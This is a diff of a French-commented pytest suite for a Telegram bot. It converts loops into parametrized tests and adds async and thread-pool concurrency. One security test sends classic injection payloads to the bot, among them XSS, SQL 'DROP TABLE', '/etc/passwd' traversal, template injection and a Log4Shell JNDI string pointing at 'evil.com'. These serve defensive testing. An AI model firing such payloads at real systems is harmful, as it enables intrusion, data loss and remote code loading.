+# Identifiants calculés une fois à l'import
+SPECIAL_IDS = [_case_id(m) for m in SPECIAL_MESSAGES]
+
+# Cas limites et charges de sécurité construits une fois à l'import, noms de test précalculés
+EDGE_CASES = tuple(
+    (f"EdgeCase_{_case_id(message)}_API", message, keywords)
+    for message, keywords in (
+        ("", []),  # Message vide
+        (" " * 100, []),  # Message avec seulement des espaces
+        ("a" * 4096, []),  # Message très long (limite Telegram)
+        ("🔥" * 50, []),  # Beaucoup d'emojis
+        ("Test\x00null\x01control", []),  # Caractères de contrôle
+        ("测试中文消息", []),  # Caractères chinois
+        ("اختبار عربي", []),  # Caractères arabes
+        ("Тест на русском", []),  # Caractères cyrilliques
+    )
+)
+
+SECURITY_CASES = tuple(
+    (f"SecurityTest_{_case_id(payload)}_API", payload)
+    for payload in (
+        "<script>alert('xss')</script>",
+        "'; DROP TABLE users; --",
+        "../../../etc/passwd",
+        "${jndi:ldap://evil.com/a}",
+        "{{7*7}}",
+        "%{(#_='multipart/form-data'))}",
+        "{{constructor.constructor('return process')().exit()}}",
+    )
+)
+
+def load_json_report(path: str) -> Dict:
+    """Relit un rapport JSON, avec orjson s'il est installé"""
+    with open(path, "rb") as f:
+        data = f.read()
+    return orjson.loads(data) if orjson is not None else json.loads(data)
+
 # --- Fixtures ---
 
 @pytest.fixture(scope="session")
@@ -625,6 +844,13 @@ def framework(test_config: TestConfig) -> Generator[TelegramBotTestFramework, No
         framework.generate_json_report()
         framework.cleanup()
 
+@pytest.fixture(scope="session")
+def executor() -> Generator[ThreadPoolExecutor, None, None]:
+    """Pool de threads partagé par toute la session : les threads ne sont créés qu'une fois"""
+    pool = ThreadPoolExecutor(max_workers=8)
+    yield pool
+    pool.shutdown(wait=True)
+
 @pytest.fixture(scope="session")
 def test_suite(framework: TelegramBotTestFramework) -> TelegramBotTestSuite:
     return TelegramBotTestSuite(framework)
@@ -689,80 +915,67 @@ class TestTelegramBotFramework:
             assert ui_result.execution_time > 0
         test_suite.framework.test_results.extend([api_result, ui_result])
 
+    # Un cas paramétré par message : chacun est un test à part entière, réparti entre les workers xdist
+
     @pytest.mark.api
-    def test_greeting_variations_api(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("greeting", ["Hello", "Hi", "Hey", "Good morning", "Greetings"])
+    def test_greeting_variations_api(self, framework: TelegramBotTestFramework, greeting: str):
         """Test des variations de salutations via API"""
-        greetings = ["Hello", "Hi", "Hey", "Good morning", "Greetings"]
-        for greeting in greetings:
-            result = framework.run_api_test(
-                f"Greeting_{greeting.replace(' ', '_')}_API",
-                greeting,
-                expected_keywords=["hello", "hi", "welcome", "greetings", "hey"]
-            )
-            framework.test_results.append(result)
-            time.sleep(1)
+        result = framework.run_api_test(
+            f"Greeting_{greeting.replace(' ', '_')}_API",
+            greeting,
+            expected_keywords=["hello", "hi", "welcome", "greetings", "hey"]
+        )
+        framework.test_results.append(result)
 
     @pytest.mark.api
-    def test_command_variations_api(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("command", ["/start", "/help", "/about", "/info", "/menu"])
+    def test_command_variations_api(self, framework: TelegramBotTestFramework, command: str):
         """Test des variations de commandes via API"""
-        commands = ["/start", "/help", "/about", "/info", "/menu"]
-        for command in commands:
-            result = framework.run_api_test(
-                f"Command_{command[1:]}_API",
-                command,
-                expected_keywords=[]
-            )
-            framework.test_results.append(result)
-            time.sleep(1)
+        result = framework.run_api_test(
+            f"Command_{command[1:]}_API",
+            command,
+            expected_keywords=[]
+        )
+        framework.test_results.append(result)
 
     @pytest.mark.ui
     @pytest.mark.skipif(not RUN_UI_TESTS, reason="UI tests disabled unless RUN_UI_TESTS=true")
-    def test_ui_interaction_flow(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("message, keywords", [
+        ("Hello", ["hello", "hi", "welcome"]),
+        ("/start", ["start", "welcome", "begin"]),
+        ("What can you do?", ["help", "can", "do"])
+    ])
+    def test_ui_interaction_flow(self, framework: TelegramBotTestFramework, message: str, keywords: List[str]):
         """Test du flux d'interaction UI"""
-        test_cases = [
-            ("Hello", ["hello", "hi", "welcome"]),
-            ("/start", ["start", "welcome", "begin"]),
-            ("What can you do?", ["help", "can", "do"])
-        ]
-        for message, keywords in test_cases:
-            result = framework.run_ui_test(
-                f"UIFlow_{message.replace(' ', '_').replace('/', '').replace('?', '')}_UI",
-                message,
-                expected_keywords=keywords
-            )
-            framework.test_results.append(result)
-            time.sleep(2)
+        result = framework.run_ui_test(
+            f"UIFlow_{message.replace(' ', '_').replace('/', '').replace('?', '')}_UI",
+            message,
+            expected_keywords=keywords
+        )
+        framework.test_results.append(result)
 
     @pytest.mark.regression
-    def test_invalid_commands(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("command", ["/nonexistent", "/invalid123", "/test_command_that_does_not_exist"])
+    def test_invalid_commands(self, framework: TelegramBotTestFramework, command: str):
         """Test des commandes invalides"""
-        invalid_commands = ["/nonexistent", "/invalid123", "/test_command_that_does_not_exist"]
-        for command in invalid_commands:
-            api_result = framework.run_api_test(
-                f"InvalidCommand_{command[1:]}_API",
-                command,
-                expected_keywords=["sorry", "unknown", "help", "command", "available"]
-            )
-            framework.test_results.append(api_result)
-            time.sleep(1)
+        api_result = framework.run_api_test(
+            f"InvalidCommand_{command[1:]}_API",
+            command,
+            expected_keywords=["sorry", "unknown", "help", "command", "available"]
+        )
+        framework.test_results.append(api_result)
 
     @pytest.mark.regression
-    def test_special_characters(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("message, msg_id", list(zip(SPECIAL_MESSAGES, SPECIAL_IDS)), ids=SPECIAL_IDS)
+    def test_special_characters(self, framework: TelegramBotTestFramework, message: str, msg_id: str):
         """Test des caractères spéciaux"""
-        special_messages = [
-            "Hello! @#$%^&*()",
-            "Test with emojis 😀😎🚀",
-            "Multi\nline\nmessage",
-            "Very long message " + "test " * 50
-        ]
-        for message in special_messages:
-            result = framework.run_api_test(
-                f"SpecialChars_{hash(message) % 1000}_API",
-                message,
-                expected_keywords=[]
-            )
-            framework.test_results.append(result)
-            time.sleep(1)
+        result = framework.run_api_test(
+            f"SpecialChars_{msg_id}_API",
+            message,
+            expected_keywords=[]
+        )
+        framework.test_results.append(result)
 
     def test_framework_configuration(self, test_config: TestConfig):
         """Test de la configuration du framework"""
@@ -790,17 +1003,16 @@ class TestTelegramBotFramework:
         assert os.path.exists(json_report_path)
         
         # Vérifier le contenu du rapport JSON
-        with open(json_report_path, 'r', encoding='utf-8') as f:
-            json_data = json.load(f)
-            assert 'report_metadata' in json_data
-            assert 'test_results' in json_data
-            assert json_data['report_metadata']['total_tests'] >= 1
-            assert len(json_data['test_results']) >= 1
+        json_data = load_json_report(json_report_path)
+        assert 'report_metadata' in json_data
+        assert 'test_results' in json_data
+        assert json_data['report_metadata']['total_tests'] >= 1
+        assert len(json_data['test_results']) >= 1
 
     @pytest.mark.performance
     def test_performance_benchmarks(self, framework: TelegramBotTestFramework):
         """Test des performances du framework"""
-        start_time = time.time()
+        start_time = time.perf_counter()
         
         # Exécuter plusieurs tests rapides
         for i in range(5):
@@ -811,7 +1023,7 @@ class TestTelegramBotFramework:
             )
             framework.test_results.append(result)
         
-        total_time = time.time() - start_time
+        total_time = time.perf_counter() - start_time
         assert total_time < 10.0  # Tous les tests doivent s'exécuter en moins de 10 secondes
         
         # Vérifier que chaque test individuel respecte les limites de temps
@@ -819,30 +1031,22 @@ class TestTelegramBotFramework:
             assert result.execution_time < 2.0  # Chaque test doit prendre moins de 2 secondes
 
     @pytest.mark.stress
-    def test_concurrent_messages(self, framework: TelegramBotTestFramework):
+    def test_concurrent_messages(self, framework: TelegramBotTestFramework, executor: ThreadPoolExecutor):
         """Test de messages concurrents"""
-        import threading
-        
-        results = []
-        threads = []
-        
-        def send_message(message_id):
-            result = framework.run_api_test(
-                f"ConcurrentMessage_{message_id}_API",
-                f"Concurrent test message {message_id}",
-                expected_keywords=[]
-            )
-            results.append(result)
-        
-        # Créer 3 threads pour envoyer des messages simultanément
-        for i in range(3):
-            thread = threading.Thread(target=send_message, args=(i,))
-            threads.append(thread)
-            thread.start()
-        
-        # Attendre que tous les threads se terminent
-        for thread in threads:
-            thread.join(timeout=30)
+        # 3 messages envoyés simultanément sur une seule boucle asyncio : les attentes réseau
+        # se chevauchent sans thread, seuls les screenshots passent par le pool partagé
+        async def send_all():
+            return await asyncio.wait_for(asyncio.gather(*(
+                framework.run_api_test_async(
+                    f"ConcurrentMessage_{i}_API",
+                    f"Concurrent test message {i}",
+                    [],
+                    executor=executor
+                )
+                for i in range(3)
+            )), timeout=30)
+        
+        results = asyncio.run(send_all())
         
         # Vérifier que tous les tests ont été exécutés
         assert len(results) == 3
@@ -851,48 +1055,20 @@ class TestTelegramBotFramework:
             framework.test_results.append(result)
 
     @pytest.mark.edge_case
-    def test_edge_cases(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("test_name, message, keywords", EDGE_CASES, ids=[case[0] for case in EDGE_CASES])
+    def test_edge_cases(self, framework: TelegramBotTestFramework, test_name: str, message: str, keywords: List[str]):
         """Test des cas limites"""
-        edge_cases = [
-            ("", []),  # Message vide
-            (" " * 100, []),  # Message avec seulement des espaces
-            ("a" * 4096, []),  # Message très long (limite Telegram)
-            ("🔥" * 50, []),  # Beaucoup d'emojis
-            ("Test\x00null\x01control", []),  # Caractères de contrôle
-            ("测试中文消息", []),  # Caractères chinois
-            ("اختبار عربي", []),  # Caractères arabes
-            ("Тест на русском", []),  # Caractères cyrilliques
-        ]
-        
-        for message, keywords in edge_cases:
-            test_name = f"EdgeCase_{hash(message) % 10000}_API"
-            result = framework.run_api_test(test_name, message, keywords)
-            framework.test_results.append(result)
-            time.sleep(0.5)
+        result = framework.run_api_test(test_name, message, keywords)
+        framework.test_results.append(result)
 
     @pytest.mark.security
-    def test_security_inputs(self, framework: TelegramBotTestFramework):
+    @pytest.mark.parametrize("test_name, payload", SECURITY_CASES, ids=[case[0] for case in SECURITY_CASES])
+    def test_security_inputs(self, framework: TelegramBotTestFramework, test_name: str, payload: str):
         """Test des entrées de sécurité"""
-        security_tests = [
-            "<script>alert('xss')</script>",
-            "'; DROP TABLE users; --",
-            "../../../etc/passwd",
-            "${jndi:ldap://evil.com/a}",
-            "{{7*7}}",
-            "%{(#_='multipart/form-data'))}",
-            "{{constructor.constructor('return process')().exit()}}",
-        ]
-        
-        for payload in security_tests:
-            result = framework.run_api_test(
-                f"SecurityTest_{hash(payload) % 10000}_API",
-                payload,
-                expected_keywords=[]
-            )
-            # Les tests de sécurité ne devraient pas causer d'erreurs système
-            assert result.status != "ERROR" or "system" not in result.error_message.lower()
-            framework.test_results.append(result)
-            time.sleep(1)
+        result = framework.run_api_test(test_name, payload, expected_keywords=[])
+        # Les tests de sécurité ne devraient pas causer d'erreurs système
+        assert result.status != "ERROR" or "system" not in result.error_message.lower()
+        framework.test_results.append(result)
 
     @pytest.mark.integration
     def test_full_conversation_flow(self, framework: TelegramBotTestFramework):
@@ -916,37 +1092,31 @@ class TestTelegramBotFramework:
             )
             conversation_results.append(result)
             framework.test_results.append(result)
-            time.sleep(2)  # Pause entre les messages pour simuler une conversation réelle
         
         # Vérifier que la majorité des étapes ont réussi
-        passed_steps = sum(1 for r in conversation_results if r.status == "PASSED")
+        passed_steps = framework.status_counts(conversation_results)["PASSED"]
         assert passed_steps >= len(conversation_steps) * 0.7  # Au moins 70% de réussite
 
     @pytest.mark.cleanup
     def test_cleanup_operations(self, framework: TelegramBotTestFramework):
         """Test des opérations de nettoyage"""
         # Créer quelques fichiers temporaires pour tester le nettoyage
-        temp_files = []
-        for i in range(3):
-            temp_file = f"temp_test_file_{i}.txt"
-            with open(temp_file, 'w') as f:
-                f.write(f"Temporary test file {i}")
-            temp_files.append(temp_file)
-        
-        # Vérifier que les fichiers existent
-        for temp_file in temp_files:
-            assert os.path.exists(temp_file)
-        
-        # Simuler le nettoyage
-        for temp_file in temp_files:
+        # (écriture directe par descripteur : ni objet fichier ni tampon Python)
+        temp_files = [f"temp_test_file_{i}.txt" for i in range(3)]
+        for i, temp_file in enumerate(temp_files):
+            fd = os.open(temp_file, os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644)
             try:
-                os.remove(temp_file)
-            except FileNotFoundError:
-                pass
+                os.write(fd, f"Temporary test file {i}".encode())
+            finally:
+                os.close(fd)
         
-        # Vérifier que les fichiers ont été supprimés
+        # Simuler le nettoyage : unlink() échoue si un fichier n'a pas été créé,
+        # ce qui tient lieu de vérification d'existence (pas de stat() supplémentaire)
         for temp_file in temp_files:
-            assert not os.path.exists(temp_file)
+            os.unlink(temp_file)
+        
+        # Vérifier que les fichiers ont été supprimés (un seul listage du dossier)
+        assert not set(temp_files) & set(os.listdir("."))
         
         # Ajouter un résultat de test pour cette opération
         result = TestResult(
@@ -958,7 +1128,7 @@ class TestTelegramBotFramework:
         framework.test_results.append(result)
 
     @pytest.mark.reporting
-    def test_advanced_reporting_features(self, framework: TelegramBotTestFramework):
+    def test_advanced_reporting_features(self, framework: TelegramBotTestFramework, executor: ThreadPoolExecutor):
         """Test des fonctionnalités avancées de rapport"""
         # Ajouter quelques résultats de test avec différents statuts
         test_cases = [
@@ -967,6 +1137,8 @@ class TestTelegramBotFramework:
             ("ReportTest_Error", "ERROR", 0.8, "Simulated error for testing"),
         ]
         
+        # Créer un screenshot pour chaque test : les trois sont dessinés et encodés en parallèle
+        pending = []
         for test_name, status, exec_time, error_msg in test_cases:
             result = TestResult(
                 test_name=test_name,
@@ -974,10 +1146,15 @@ class TestTelegramBotFramework:
                 execution_time=exec_time,
                 error_message=error_msg
             )
-            # Créer un screenshot pour chaque test
-            result.screenshot_path = framework.screenshot_manager.create_dummy_screenshot(
+            future = executor.submit(
+                framework.screenshot_manager.create_dummy_screenshot,
                 test_name, status, error_msg or "Test completed"
             )
+            pending.append((result, future))
+        
+        # Les screenshots doivent exister avant la génération des rapports
+        for result, future in pending:
+            result.screenshot_path = future.result(timeout=30)
             framework.test_results.append(result)
         
         # Générer les rapports
@@ -988,22 +1165,35 @@ class TestTelegramBotFramework:
         assert os.path.exists(html_path)
         assert os.path.exists(json_path)
         
+        expected_names = {name for name, _, _, _ in test_cases}
+        
+        # Lecture ligne à ligne, en un seul passage : on s'arrête dès que tous les noms sont trouvés
+        missing = set(expected_names)
         with open(html_path, 'r', encoding='utf-8') as f:
-            html_content = f.read()
-            assert "ReportTest_Success" in html_content
-            assert "ReportTest_Failure" in html_content
-            assert "ReportTest_Error" in html_content
+            for line in f:
+                missing.difference_update([name for name in missing if name in line])
+                if not missing:
+                    break
+        assert not missing
         
-        with open(json_path, 'r', encoding='utf-8') as f:
-            json_data = json.load(f)
-            test_names = [t['test_name'] for t in json_data['test_results']]
-            assert "ReportTest_Success" in test_names
-            assert "ReportTest_Failure" in test_names
-            assert "ReportTest_Error" in test_names
+        # Seuls les noms de test sont extraits du JSON (en flux avec ijson s'il est installé)
+        if ijson is not None:
+            with open(json_path, 'rb') as f:
+                test_names = set(ijson.items(f, 'test_results.item.test_name'))
+        else:
+            test_names = {t['test_name'] for t in load_json_report(json_path)['test_results']}
+        assert expected_names <= test_names
 
 
 # --- Utilitaires additionnels ---
 
+# Variations de commandes : produit fixe, calculé une seule fois à l'import
+COMMAND_VARIATIONS = tuple(
+    variation
+    for cmd in ("/start", "/help", "/about", "/info", "/menu", "/settings")
+    for variation in (cmd, cmd.upper(), cmd + " ", " " + cmd, cmd + " extra_parameter")
+)
+
 class TestDataGenerator:
     """Générateur de données de test"""
     
@@ -1011,9 +1201,7 @@ class TestDataGenerator:
     def generate_random_messages(count: int) -> List[str]:
         """Génère des messages aléatoires pour les tests"""
         import random
-        import string
         
-        messages = []
         templates = [
             "Hello, this is test message {}",
             "Test message number {} for bot testing",
@@ -1022,29 +1210,14 @@ class TestDataGenerator:
             "Testing bot functionality with message {}"
         ]
         
-        for i in range(count):
-            template = random.choice(templates)
-            message = template.format(i + 1)
-            messages.append(message)
-        
-        return messages
+        # Tous les tirages en un seul appel (boucle C) plutôt qu'un random.choice par message
+        picks = random.choices(templates, k=count)
+        return [template.format(i) for i, template in enumerate(picks, 1)]
     
     @staticmethod
-    def generate_command_variations() -> List[str]:
+    def generate_command_variations() -> Tuple[str, ...]:
         """Génère des variations de commandes pour les tests"""
-        base_commands = ["/start", "/help", "/about", "/info", "/menu", "/settings"]
-        variations = []
-        
-        for cmd in base_commands:
-            variations.extend([
-                cmd,
-                cmd.upper(),
-                cmd + " ",
-                " " + cmd,
-                cmd + " extra_parameter",
-            ])
-        
-        return variations
+        return COMMAND_VARIATIONS
 
 
 class TestMetrics:
@@ -1066,12 +1239,21 @@ class TestMetrics:
             return self.metrics
         
         total_tests = len(test_results)
-        passed_tests = sum(1 for r in test_results if r.status == "PASSED")
-        failed_tests = sum(1 for r in test_results if r.status == "FAILED")
-        error_tests = sum(1 for r in test_results if r.status == "ERROR")
-        
-        total_time = sum(r.execution_time for r in test_results)
-        screenshots = sum(1 for r in test_results if r.screenshot_path)
+        passed_tests = failed_tests = error_tests = screenshots = 0
+        total_time = 0.0
+        
+        # Un seul passage : statuts, temps cumulé et screenshots
+        for r in test_results:
+            status = r.status
+            if status == "PASSED":
+                passed_tests += 1
+            elif status == "FAILED":
+                failed_tests += 1
+            elif status == "ERROR":
+                error_tests += 1
+            total_time += r.execution_time
+            if r.screenshot_path:
+                screenshots += 1
         
         self.metrics.update({
             'total_execution_time': total_time,
@@ -1091,61 +1273,10 @@ class TestMetrics:
         return self.metrics
 
 
-# --- Hooks pytest ---
-
-def pytest_configure(config):
-    """Configuration globale pour pytest"""
-    # Ajouter des marqueurs personnalisés
-    config.addinivalue_line("markers", "smoke: tests de fumée rapides")
-    config.addinivalue_line("markers", "critical: tests critiques")
-    config.addinivalue_line("markers", "api: tests API uniquement")
-    config.addinivalue_line("markers", "ui: tests UI uniquement")
-    config.addinivalue_line("markers", "combined: tests combinés API + UI")
-    config.addinivalue_line("markers", "regression: tests de régression")
-    config.addinivalue_line("markers", "performance: tests de performance")
-    config.addinivalue_line("markers", "stress: tests de stress")
-    config.addinivalue_line("markers", "edge_case: tests de cas limites")
-    config.addinivalue_line("markers", "security: tests de sécurité")
-    config.addinivalue_line("markers", "integration: tests d'intégration")
-    config.addinivalue_line("markers", "cleanup: tests de nettoyage")
-    config.addinivalue_line("markers", "reporting: tests de rapport")
-
-def pytest_sessionstart(session):
-    """Appelé au début de la session de test"""
-    print("\n" + "="*80)
-    print("🚀 DÉMARRAGE DES TESTS TELEGRAM BOT FRAMEWORK")
-    print("="*80)
-    print(f"UI Tests: {'✅ Activés' if RUN_UI_TESTS else '❌ Désactivés'}")
-    print(f"Date: {datetime.now().strftime('%Y-%m-%d %H:%M:%S')}")
-    print("="*80 + "\n")
-
-def pytest_sessionfinish(session, exitstatus):
-    """Appelé à la fin de la session de test"""
-    print("\n" + "="*80)
-    print("🏁 TESTS TERMINÉS")
-    print("="*80)
-    print(f"Statut de sortie: {exitstatus}")
-    print(f"Rapports générés dans le dossier 'reports/'")
-    print(f"Screenshots sauvegardés dans le dossier 'screenshots/'")
-    print("="*80 + "\n")
-
-def pytest_runtest_setup(item):
-    """Appelé avant chaque test"""
-    if "ui" in item.keywords and not RUN_UI_TESTS:
-        pytest.skip("Tests UI désactivés par la variable d'environnement RUN_UI_TESTS")
-
-def pytest_runtest_teardown(item, nextitem):
-    """Appelé après chaque test"""
-    # Petite pause entre les tests pour éviter la surcharge
-    time.sleep(0.1)
-
-
 # --- Fonction main pour exécution standalone ---
 
 def main():
     """Fonction principale pour exécuter les tests en standalone"""
-    import sys
-    
     print("🤖 Framework de Test Telegram Bot")
     print("=" * 50)
     